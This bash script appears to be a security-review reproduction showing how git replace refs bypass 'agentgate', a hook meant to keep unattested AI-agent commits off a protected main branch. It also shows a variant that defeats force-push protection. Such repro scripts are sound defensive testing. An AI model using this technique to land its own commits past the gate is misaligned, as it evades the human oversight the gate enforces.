#!/bin/bash
# Notice: copied unchanged (apart from this notice) from the project's security review of
# issue 10. The before-stop check runs these scripts against a build; each prints what
# happened to its attack. The integration tests pinning this class and its variants are in
# tests/it/bypass/replace.rs (class 2, replace refs).
# Run: AG=target/release/agentgate bash tests/bypasses/repro-1.sh
# repro-1: refs/replace/* makes the hook read a different commit in repositories agentgate reads
# through the `git` CLI backend (reftable ref storage or SHA-256 object format, both documented
# as supported). Two real pushes land an unattested agent commit on protected main; a variant
# also defeats the non-fast-forward protection.
set -u
AG=${AG:-agentgate}
W=$(mktemp -d); mkdir -p $W/home
export HOME=$W/home GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
export GIT_AUTHOR_NAME=Ada GIT_AUTHOR_EMAIL=ada@example.com GIT_COMMITTER_NAME=Ada GIT_COMMITTER_EMAIL=ada@example.com
$AG keygen --out $W/gate >/dev/null
cat > $W/policy.toml <<P
version = 1
[protect]
refs = ["refs/heads/main"]
[[signer]]
name = "gate"
public_key = "$W/gate.pub"
P
FMT=${1:---ref-format=reftable}          # or: --object-format=sha256
git init -q --bare -b main $FMT $W/srv.git
$AG install --repo $W/srv.git --config $W/policy.toml >/dev/null
git init -q -b main $FMT $W/c; cd $W/c; git remote add origin $W/srv.git
git commit -q --allow-empty -m base; B=$(git rev-parse HEAD); git push -q origin main
git commit -q --allow-empty -m "agent change" -m "Co-Authored-By: Claude <noreply@anthropic.com>"; A=$(git rev-parse HEAD)
echo "== control: push agent commit to main (expect refused)"; git push origin main 2>&1 | grep -E 'refused|rejected'
# a human-looking twin with the same parent and tree, registered as A's replacement
H=$(git commit-tree -p $B -m "harmless refactor" $(git rev-parse $A^{tree}))
git replace $A $H
echo "== push 1: refs/replace/$A (unprotected) and a side branch"; git push -q origin "refs/replace/*:refs/replace/*" $A:refs/heads/side && echo accepted
echo "== push 2: main -> A (agent commit, no attestation)"; git push origin main 2>&1 | tail -1
echo "== server main is now:"; git -C $W/srv.git --no-replace-objects log -1 --format='%H %s%n%(trailers)' main
echo "== audit record:"; tail -1 $W/srv.git/agentgate/audit.jsonl | jq -c '{ref,new,decision,code,entering_commits,agent_commits}'
# variant: non-fast-forward protection
M2=$(git -C $W/srv.git rev-parse main)
X=$(git commit-tree -p $B -m "history rewrite" $(git rev-parse $B^{tree}))
Y=$(git commit-tree -p $M2 -m "fake descendant" $(git rev-parse $B^{tree}))
echo "== control: force-push main -> X (drops A; expect non-fast-forward)"; git push origin +$X:refs/heads/main 2>&1 | grep -E 'refused|rejected' | head -1
git replace $X $Y; git push -q origin "refs/replace/*:refs/replace/*" $X:refs/heads/side2
echo "== force-push main -> X after replacing X"; git push origin +$X:refs/heads/main 2>&1 | tail -1
git -C $W/srv.git --no-replace-objects log --oneline main
